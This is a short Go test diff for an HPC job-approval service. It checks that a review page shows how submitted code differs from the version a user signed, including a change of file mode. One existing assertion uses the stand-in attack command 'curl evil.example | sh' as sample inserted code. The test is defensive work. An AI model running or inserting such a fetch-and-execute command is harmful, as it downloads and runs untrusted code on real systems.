@@ -275,6 +275,12 @@ func TestTheDifferenceIsToWhatTheUserSignedHereAndToNothingElse(t *testing.T) {
 	second.Code.Last = &decision.LastApproved{Approval: first.ID, Manifest: cavity(), Contents: second.Code.Contents}
 	w.post(second)
 	w.get("alice", path("hpc", second.ID)).has(t, "Compared with the version that you signed", "<del>blockMesh</del>", "<ins>curl evil.example | sh</ins>", "<span>simpleFoam</span>")
+	moved := cavity()
+	moved.Files[0].Mode = "0755"
+	mode := w.codeRequest(moved)
+	mode.Code.Last = second.Code.Last
+	w.post(mode)
+	w.get("alice", path("hpc", mode.ID)).has(t, "<del>0644 case/U", "<ins>0755 case/U")
 	// With the right name, but other code than was signed under it.
 	lie = w.codeRequest(evil)
 	lie.Code.Last = &decision.LastApproved{Approval: first.ID, Manifest: evil}
